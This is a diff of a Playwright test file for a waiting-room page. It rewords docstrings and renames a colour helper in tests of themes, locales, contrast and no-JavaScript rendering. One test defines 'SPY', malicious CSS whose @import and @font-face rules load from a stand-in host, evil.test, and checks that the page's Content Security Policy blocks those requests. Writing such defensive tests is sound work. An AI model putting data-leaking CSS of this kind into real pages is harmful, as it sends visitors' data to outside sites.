@@ -1,5 +1,4 @@
-"""A room's own look in a real browser: in light and in dark, in Arabic, without JavaScript, and
-with rules that want to send out what they see."""
+"""The appearance of a room's page: colours, languages, no JavaScript, and malicious CSS."""
 
 import json
 import re
@@ -32,7 +31,7 @@ HEADINGS = {
     "closed": re.compile("niemanden mehr auf"), "full": re.compile("gerade voll"),
     "left": re.compile("verlassen"), "lost": re.compile("nicht in der Warteschlange"),
 }  # fmt: skip
-#: What an enemy would write who got past the check of custom_css.
+#: CSS of an attacker that sends data to other sites, if custom_css were not checked.
 SPY = """\
 @import "https://evil.test/a.css";
 @font-face { font-family: spy; src: url(https://evil.test/a.woff2) }
@@ -55,8 +54,8 @@ def site():
         yield site
 
 
-def colour_of(page, selector, name):
-    """A computed colour, read."""
+def read_computed_colour(page, selector, name):
+    """Return a computed colour of an element."""
     element = page.locator(selector).first
     text = element.evaluate("(e, name) => getComputedStyle(e)[name]", name)
     red, green, blue = re.findall(r"[\d.]+", text)[:3]
@@ -64,13 +63,13 @@ def colour_of(page, selector, name):
 
 
 def behind(page, selector):
-    return colour_of(page, selector, "backgroundColor")
+    return read_computed_colour(page, selector, "backgroundColor")
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 @pytest.mark.parametrize("language", ["de", "ar"])
 def test_the_page_belongs_to_the_site(site, visitor, scheme, language):
-    """Its colours, font, rules, name and links; and all can be read."""
+    """The page has the site's colours, font, CSS, name and links, with sufficient contrast."""
     page = visitor(color_scheme=scheme, locale=language)
     page.goto(f"{site.url}/own/")
     expect(page.locator("#site")).to_have_text("Alpenrock")
@@ -84,8 +83,8 @@ def test_the_page_belongs_to_the_site(site, visitor, scheme, language):
     )
     assert behind(page, "body") == read_colour("#10243e")
     for text in ("#site", "footer a"):
-        assert contrast(colour_of(page, text, "color"), behind(page, "body")) >= 4.5
-    # A browser does not say what the bar within has: the property that it is filled with.
+        assert contrast(read_computed_colour(page, text, "color"), behind(page, "body")) >= 4.5
+    # Scripts cannot read the colour inside the bar, so this is the property that sets it.
     bar = page.locator("progress").evaluate(
         "e => getComputedStyle(e).getPropertyValue('--wr-mark')"
     )
@@ -94,7 +93,7 @@ def test_the_page_belongs_to_the_site(site, visitor, scheme, language):
     stay = page.locator("#stay")
     expect(stay).to_be_visible()
     assert behind(page, "#stay") == read_colour("#ffd400")
-    assert contrast(colour_of(page, "#stay", "color"), behind(page, "#stay")) >= 4.5
+    assert contrast(read_computed_colour(page, "#stay", "color"), behind(page, "#stay")) >= 4.5
     assert page.problems == []
 
 
@@ -108,7 +107,7 @@ def test_without_javascript_it_belongs_to_the_site_too(site, visitor):
 
 
 def test_a_change_is_seen_by_who_comes_ten_seconds_later(site, visitor):
-    """And the page of a room without a look of its own has waiting.css's."""
+    """A room without its own appearance has the colours of waiting.css, until a change applies."""
     page = visitor()
     page.goto(f"{site.url}/plain/")
     expect(page.locator("body")).to_have_css("background-color", "rgb(243, 245, 244)")
@@ -122,7 +121,7 @@ def test_a_change_is_seen_by_who_comes_ten_seconds_later(site, visitor):
 
 
 def test_rules_that_spy_reach_nobody(site, visitor):
-    """If the check of custom_css let them through, the page's policy would still hold them."""
+    """The Content Security Policy of the page blocks requests of malicious CSS."""
     page = visitor()
     asked = []
     page.route("**/own/style.css", lambda route: route.fulfill(body=SPY, content_type="text/css"))
@@ -131,7 +130,7 @@ def test_rules_that_spy_reach_nobody(site, visitor):
     )
     page.goto(f"{site.url}/own/?a=secret")
     expect(page.locator("#number")).not_to_be_empty()
-    expect(page.locator("h1")).to_have_css("display", "list-item")  # the rules are in force
+    expect(page.locator("h1")).to_have_css("display", "list-item")  # The CSS applies.
     page.locator("h1").hover()
     page.reload()
     expect(page.locator("#number")).not_to_be_empty()
@@ -140,7 +139,7 @@ def test_rules_that_spy_reach_nobody(site, visitor):
 
 
 def test_the_first_paint_does_not_wait_for_a_replica_that_hangs(site, visitor):
-    """nginx has no style of the room, and gives up on it before it gives up on all else."""
+    """nginx gives up waiting for the room's CSS earlier than for other responses."""
     page = visitor()
     site.replicas[0].freeze()
     try:
@@ -163,7 +162,7 @@ def test_the_first_paint_does_not_wait_for_a_replica_that_hangs(site, visitor):
 
 @pytest.mark.parametrize("state", STATES)
 def test_a_preview_shows_each_state(visitor, tmp_path, state):
-    """From a folder, without any server: the page's own script, in the state that was chosen."""
+    """A preview from a folder without a server runs the page's script in the chosen state."""
     settings = RoomSettings(total_active_users=1, **LOOK)
     page = Preview(Page(ROOT / "static"), "own", settings, static="static/", language="de")
     (tmp_path / "page.html").write_text(page.html(state), encoding="utf-8")
